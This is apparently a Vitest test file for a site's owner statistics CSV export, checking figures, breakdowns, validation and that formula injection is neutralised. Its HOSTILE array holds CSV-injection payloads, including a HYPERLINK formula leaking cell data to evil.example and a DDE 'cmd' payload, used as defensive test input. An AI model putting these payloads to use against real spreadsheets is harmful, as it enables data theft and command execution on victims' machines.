import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GOAL_DIMENSIONS, GOALS } from '../../../shared/goals.js';
import { STATS_DIMENSIONS } from '../../../shared/statistics.js';
import { readCsv } from '../../../shared/test/read-csv.js';
import { recordCvDownload } from '../../repositories/cv-download-repository.js';
import { recordGoal } from '../../repositories/goal-repository.js';
import { createVisitor } from '../../repositories/visitor-repository.js';
import { createTestApp, signInOwner, type TestApp, testDialect } from '../../test/helper.js';
import { seedTraffic } from '../../test/seed-traffic.js';
import { SEEDED_RANGE, SEEDED_VISITS } from '../../test/seeded-stats.js';

const number = (text: string | undefined) => Number(text);

/** The JSON figures rebuilt from the CSV's rows, as GET /owner/stats shapes them. */
function figuresFromCsv(rows: string[][]) {
  const of = (section: string) => rows.filter(([name]) => name === section);
  const totals = (section: string) =>
    Object.fromEntries(
      of(section)
        .filter(([, , metric]) => metric !== '')
        .map(([, , metric, value]) => [
          (metric ?? '').replace(/_(\w)/g, (_, letter: string) => letter.toUpperCase()),
          number(value),
        ]),
    );
  const period = (section: string, key: string) => of(section).find((row) => row[1] === key)?.[3];
  const seriesKeys = [...new Set(of('series').map(([, key]) => key ?? ''))];
  const seriesValue = (key: string, metric: string) =>
    number(of('series').find((row) => row[1] === key && row[2] === metric)?.[3]);
  const items = (section: string, metric: string) =>
    of(section).map(([, key, , value]) => ({ value: key === '' ? null : key, [metric]: number(value) }));
  return {
    from: period('period', 'from'),
    to: period('period', 'to'),
    interval: period('period', 'interval'),
    detailedSince: period('period', 'detailed_since') || null,
    totals: totals('totals'),
    previous: { from: period('previous', 'from'), to: period('previous', 'to'), ...totals('previous') },
    series: seriesKeys.map((key) => {
      const hour = /^(\d{4}-\d\d-\d\d)T(\d\d):00Z$/.exec(key);
      return {
        day: hour ? hour[1] : key,
        ...(hour ? { hour: Number(hour[2]) } : {}),
        visitors: seriesValue(key, 'visitors'),
        visits: seriesValue(key, 'visits'),
      };
    }),
    ...Object.fromEntries(STATS_DIMENSIONS.map((dimension) => [dimension, items(dimension, 'visits')])),
    cvDownloads: {
      total: number(of('cv_downloads')[0]?.[3]),
      days: of('cv_downloads_days').map(([, day, , value]) => ({ day, downloads: number(value) })),
      languages: items('cv_downloads_languages', 'downloads'),
      formats: items('cv_downloads_formats', 'downloads'),
    },
    goals: GOALS.map((goal) => {
      const figure = (metric: string) =>
        number(of('goals').find(([, key, name]) => key === goal && name === metric)?.[3]);
      const breakdown = (dimension: string) =>
        of(`goals_${dimension}`)
          .filter(([, key]) => key?.startsWith(`${goal}:`))
          .map(([, key, , value]) => {
            const item = (key ?? '').slice(goal.length + 1);
            return { value: item === '' ? null : item, completions: number(value) };
          });
      return {
        goal,
        completions: figure('completions'),
        visitors: figure('visitors'),
        ...Object.fromEntries(GOAL_DIMENSIONS.map((dimension) => [dimension, breakdown(dimension)])),
      };
    }),
  };
}

/** What a spreadsheet could run: a formula starter at a cell's start or right after a separator. */
const RUNNABLE = /(^|[,;\t\r\n])[=+\-@]/;

describe(`the statistics CSV export on ${testDialect}`, () => {
  let testApp: TestApp;
  let cookie: string;
  const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1;2)'];
  beforeAll(async () => {
    testApp = await createTestApp();
    // The app's housekeeping rolls finished days up as it starts; a run still going while the
    // back-dated visits below are written would roll a day up half-way (seen on PostgreSQL in CI:
    // 6 visits of the seeded 8), as in visit-input.test.ts.
    await testApp.app.jobs.stop();
    await seedTraffic(testApp.db, SEEDED_VISITS);
    await recordCvDownload(testApp.db, 'russian', 'pdf', new Date('2026-11-11T09:00:00Z'));
    await recordCvDownload(testApp.db, 'russian', 'pdf', new Date('2026-11-12T09:00:00Z'));
    await recordCvDownload(testApp.db, 'english', 'json', new Date('2026-11-12T10:00:00Z'));
    // Goals of the same days, as the CV, contact and beacon routes record them (decision 041).
    await recordGoal(
      testApp.db,
      { goal: 'cv', locale: 'russian', page: '/about', target: 'pdf' },
      new Date('2026-11-11T09:00:00Z'),
    );
    await recordGoal(
      testApp.db,
      { goal: 'message', locale: 'lotin', page: '/contact' },
      new Date('2026-11-12T11:00:00Z'),
    );
    await recordGoal(
      testApp.db,
      { goal: 'outbound', locale: 'english', page: null, target: 'https://t.me/example' },
      new Date('2026-11-12T12:00:00Z'),
    );
    // Links anybody can make: campaigns written to run in the owner's spreadsheet, with control
    // characters before them (the visit's rules strip those, leaving the formula starter first).
    for (const [index, value] of HOSTILE.entries()) {
      await createVisitor(testApp.db, 'web', new Date(`2026-11-20T1${index}:00:00Z`), {
        path: '/',
        source: `\u0007\t${value}`,
        medium: value,
        campaign: `${value}\r\n=1+1`,
      });
    }
    cookie = await signInOwner(testApp);
  });
  afterAll(async () => testApp.close());

  const exported = (query: string, headers: Record<string, string> = { cookie }) =>
    testApp.app.inject({ url: `/api/v1/owner/stats/export?${query}`, headers });

  it('answers the JSON figures of the same range as CSV, in a file the server names', async () => {
    const query = `from=${SEEDED_RANGE.from}&to=${SEEDED_RANGE.to}`;
    const response = await exported(query);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="statistics-2026-11-10-to-2026-11-12.csv"',
    );
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, ...rows] = readCsv(response.body);
    expect(header).toEqual(['section', 'key', 'metric', 'value']);
    for (const row of rows) expect(row).toHaveLength(4);

    const json = (await testApp.app.inject({ url: `/api/v1/owner/stats?${query}`, headers: { cookie } })).json().data;
    const { now: _now, ...figures } = json;
    // Pages' titles are the dashboard's; the CSV keys pages by path.
    figures.pages = figures.pages.map(({ value, visits }: { value: string; visits: number }) => ({ value, visits }));
    expect(figuresFromCsv(rows)).toEqual(figures);
    expect(figures.cvDownloads.total).toBe(3);
    // The goals are in it, with their breakdowns (a page not known is an empty key).
    expect(figures.goals.map((goal: { completions: number }) => goal.completions)).toEqual([1, 1, 1]);
    expect(rows).toContainEqual(['goals_targets', 'outbound:https://t.me/example', 'completions', '1']);
    expect(rows).toContainEqual(['goals_pages', 'outbound:', 'completions', '1']);
  });

  it('writes every breakdown there is, a single day per hour', async () => {
    const rows = readCsv((await exported('from=2026-11-12&to=2026-11-12')).body);
    const sections = new Set(rows.slice(1).map(([section]) => section));
    for (const dimension of STATS_DIMENSIONS) expect(sections).toContain(dimension);
    expect(rows).toContainEqual(['series', '2026-11-12T08:00Z', 'visits', '1']);
    expect(rows.filter(([section]) => section === 'series')).toHaveLength(48);
  });

  it('keeps every campaign a visitor could write inert for a spreadsheet', async () => {
    const response = await exported('from=2026-11-20&to=2026-11-20');
    expect(response.statusCode).toBe(200);
    const rows = readCsv(response.body);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell, cell).not.toMatch(RUNNABLE);
    }
    const keys = (section: string) => rows.filter(([name]) => name === section).map(([, key]) => key);
    // Each value as written, kept as text with a leading apostrophe.
    expect(keys('sources').sort()).toEqual(HOSTILE.map((value) => `'${value}`).sort());
    expect(keys('mediums').sort()).toEqual(HOSTILE.map((value) => `'${value}`).sort());
    // The line break was a control: a space now, so the formula after it is no cell's start.
    expect(keys('campaigns').sort()).toEqual(HOSTILE.map((value) => `'${value} =1+1`).sort());
    // Nothing runs even when a spreadsheet splits on ; or tabs: such cells are quoted whole.
    const raw = response.body.split('\r\n');
    for (const line of raw) {
      const unquoted = line.replace(/"(?:[^"]|"")*"/g, '');
      expect(unquoted, line).not.toMatch(/[;\t]/);
    }
  });

  it.each([
    ['from=2026-11-12&to=2026-11-10', 'to', 'reversed_range'],
    ['from=2026-02-30&to=2026-03-01', 'from', 'invalid_date'],
    ['from=2021-11-12&to=2026-11-12', 'to', 'range_too_long'],
    ['to=2026-11-12', 'from', 'required'],
  ])('refuses %s with 400, naming %s: %s, as /owner/stats does', async (query, field, code) => {
    const response = await exported(query);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ success: false, code: 'validation_failed' });
    expect(response.json().errors).toContainEqual({ field, code });
  });

  it('answers 401 without a session', async () => {
    const response = await exported('from=2026-11-10&to=2026-11-12', {});
    expect(response.statusCode).toBe(401);
    expect(response.json()).toMatchObject({ success: false, code: 'unauthorized' });
  });

  it('is described in the OpenAPI document as CSV', async () => {
    const document = (await testApp.app.inject({ url: '/api/v1/openapi.json' })).json();
    const operation = document.paths['/api/v1/owner/stats/export'].get;
    expect(operation.parameters.map((parameter: { name: string }) => parameter.name).sort()).toEqual(['from', 'to']);
    expect(Object.keys(operation.responses)).toEqual(expect.arrayContaining(['200', '400', '401']));
    expect(Object.keys(operation.responses['200'].content)).toEqual(['text/csv']);
  });
});
